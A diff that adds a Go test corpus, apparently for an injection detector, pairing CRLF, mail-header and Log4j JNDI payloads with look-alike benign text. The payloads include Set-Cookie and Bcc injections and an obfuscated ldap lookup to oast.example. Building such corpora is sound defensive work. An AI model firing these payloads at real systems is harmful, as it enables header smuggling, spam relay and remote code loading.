@@ -1,0 +1,65 @@
+package tier1
+
+// Header, mail and Log4j injections as scanners send them (nuclei's and
+// PayloadsAllTheThings' CRLF lists, contact-form mail injection,
+// log4j-scan's bypasses), and the multi-line text and raw messages that
+// look like them.
+func init() {
+	attacks = append(attacks,
+		// Breaks that some stacks make of a character: Unicode's line
+		// separator and NEL before a header injections set; the escapes
+		// written out; folding spaces; a status line or a JSON body after
+		// a blank line; OAuth's state and a language reflected.
+		attackEntry{lQ, "r", "x\u2028Set-Cookie:crlf=1", "crlf-injection", encURL},
+		attackEntry{lQ, "r", "x\u0085Set-Cookie:crlf=1", "crlf-injection", encURL},
+		attackEntry{lQ, "r", `\r\nSet-Cookie:crlf=injection`, "crlf-injection", encURL},
+		attackEntry{lH, "x-forwarded-host", `x\nLocation:https://evil.example`, "crlf-injection", 0},
+		attackEntry{lQ, "r", "x\r\n  Set-Cookie:crlf=1", "crlf-injection", encURL},
+		attackEntry{lQ, "r", "x\r\n\r\nHTTP/1.1 200 OK", "crlf-injection", encURL},
+		attackEntry{lQ, "r", "x\r\n\r\n{\"admin\":true}", "crlf-injection", encURL},
+		attackEntry{lF, "state", "abc\r\nSet-Cookie: x=1", "crlf-injection", encURL},
+		attackEntry{lJ, "lang", "en\r\nSet-Cookie: sid=evil", "crlf-injection", 0},
+		// Any header after a token; one of several words after anything.
+		attackEntry{lQ, "next", "/home\r\nEvil: x", "crlf-injection", encURL},
+		attackEntry{lQ, "q", "some text\r\nX-Injected-Header: yes", "crlf-injection", encURL},
+		// Mail: the sender's name a form writes into From:, more
+		// headers, a blank line and a body, 嘊嘍, SMTP's RCPT TO in an
+		// address's quoted local part.
+		attackEntry{lF, "name", "Alex\nBcc:victim@example.com", "mail-header-injection", encURL},
+		attackEntry{lF, "your-name", "Alex\r\nBcc: v@x.example", "mail-header-injection", encURL},
+		attackEntry{lJ, "first_name", "Alex\r\nCc: victim@x.example", "mail-header-injection", 0},
+		attackEntry{lF, "email", "a@b.example\nReturn-Path:attacker@evil.example", "mail-header-injection", encURL},
+		attackEntry{lF, "email", "a@b.example\nX-Priority:1", "mail-header-injection", encURL},
+		attackEntry{lF, "email", "a@b.example\r\n\r\nInjected body spam", "mail-header-injection", encURL},
+		attackEntry{lF, "email", "a@b.example\u560a\u560dBcc:v@x.example", "mail-header-injection", encURL},
+		attackEntry{lF, "email", `"attacker\r\nRCPT TO:victim"@x.example`, "mail-header-injection", encURL},
+		// Log4j: an empty date pattern spells nothing; the lookups that
+		// recurse until the stack overflows (CVE-2021-45105).
+		attackEntry{lH, "user-agent", "${jn${date:}di${date:':'}ldap${date:':'}//oast.example/a}", "jndi-lookup", 0},
+		attackEntry{lQ, "q", "${${::-${::-$${::-j}}}}", "jndi-lookup", encURL},
+		attackEntry{lH, "x-api-version", "${ctx:loginId}${${ctx:loginId}}", "jndi-lookup", 0},
+	)
+	benign = append(benign,
+		// Multi-line text: words before the break, a plain word after it.
+		corpusEntry{lQ, "text", "Meeting notes\r\nAttendees: Ann, Bob"},
+		corpusEntry{lQ, "comment", "Great app!\r\nSuggestion: dark mode"},
+		corpusEntry{lQ, "q", "Traceback (most recent call last):\nValueError: invalid literal"},
+		corpusEntry{lQ, "addr", "10 Downing St\r\nLondon\r\nPostcode: SW1A 2AA"},
+		corpusEntry{lQ, "doc", "apiVersion: v1\nkind: Pod"},
+		corpusEntry{lQ, "body", "Your code: 1234\nExpires: 5min"},
+		corpusEntry{lH, "x-comment", "Line 1\nNote: two"},
+		corpusEntry{lQ, "msg", "fix parser\n\nSigned-off-by: Ann <ann@example.com>"},
+		// Cantonese: 嘍 is a particle.
+		corpusEntry{lQ, "q", "收到嘍 Update: ok"},
+		corpusEntry{lQ, "q", "好嘍 note: ok"},
+		// Mail: raw messages (an inbound-mail webhook, an .eml import), a
+		// postal address, text fields named for mail, a quoted reply.
+		corpusEntry{lF, "email", "Received: by mx.example with SMTP id 6WCV\r\nFrom: Bob <bob@example.org>\r\nTo: support@example.com\r\nSubject: Help\r\n\r\nHi"},
+		corpusEntry{lJ, "raw_mail", "From: a@b.example\r\nTo: c@d.example\r\nSubject: hi\r\n\r\nbody"},
+		corpusEntry{lJ, "address", "Attn: Billing\nTo: Acme Corp\n12 Main St"},
+		corpusEntry{lJ, "email_template", "Hello {{name}},\nSubject: your order {{id}} shipped\nRegards"},
+		corpusEntry{lJ, "email_signature", "John Smith\nFrom: Acme Corp Sales\nTel: 555-0100"},
+		corpusEntry{lJ, "reply", "Thanks!\n\nFrom: Support <support@example.com>\nSent: Monday\nTo: Bob\nSubject: Re: help"},
+		corpusEntry{lJ, "name", "Acme Corp"},
+	)
+}
